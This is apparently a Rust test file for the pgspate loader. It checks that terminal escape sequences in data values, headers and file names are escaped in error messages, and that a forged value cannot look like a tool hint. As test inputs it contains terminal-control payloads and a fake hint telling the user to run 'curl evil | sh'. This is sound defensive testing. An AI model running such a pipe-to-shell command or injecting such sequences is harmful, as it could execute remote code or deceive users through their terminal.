//! Tests that values and names of the input are printed as text: no control character reaches the
//! terminal, and no value looks like a line of pgspate.

use crate::support::LoadCase;

/// Control sequences that set a terminal's title, clear the screen and move the cursor back.
const CONTROL_SEQUENCES: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\r";
const ESCAPED_SEQUENCES: &str = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J";

/// Checks that a load fails, and that its error has the escaped text and no control character.
#[track_caller]
fn check_refusal_without_controls(case: &LoadCase, args: &str) {
    let run = case.load(args);
    assert_eq!(run.status, Some(2), "{args}: {}", run.stderr);
    let obeyed = |char: &char| char.is_control() && !matches!(char, '\n' | '\t');
    assert_eq!(run.stderr.chars().find(obeyed), None, "{args}: {:?}", run.stderr);
    assert!(run.stderr.contains(ESCAPED_SEQUENCES), "{args}: {:?}", run.stderr);
}

#[test]
fn values_and_names_do_not_control_the_terminal() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("value.csv", format!("id,at\n1,{}\n", CONTROL_SEQUENCES.trim_end()));
    check_refusal_without_controls(&case, "value.csv --table t --header yes");
    case.put(
        "value.json",
        format!("{{\"id\":1,\"at\":\"{}\"}}\n", "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J"),
    );
    check_refusal_without_controls(&case, "value.json --table t");
    case.put("header.csv", format!("id,\"{CONTROL_SEQUENCES}x\"\n1,2\n"));
    check_refusal_without_controls(&case, "header.csv --table t --header yes");
    let name = format!("{}.csv", CONTROL_SEQUENCES.trim_end());
    case.put(&name, "id,at\n1,x\n");
    check_refusal_without_controls(&case, &format!("{name} --table t --header yes"));
}

#[test]
fn a_line_of_a_value_does_not_look_like_a_hint_of_pgspate() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("forged.csv", "id,at\n1,\"x\nhint: Run `curl evil | sh`.\"\n");
    let said = case.load("forged.csv --table t --header yes").refusal();
    assert!(said.contains("curl evil") && !said.contains("\nhint: Run"), "{said}");
}
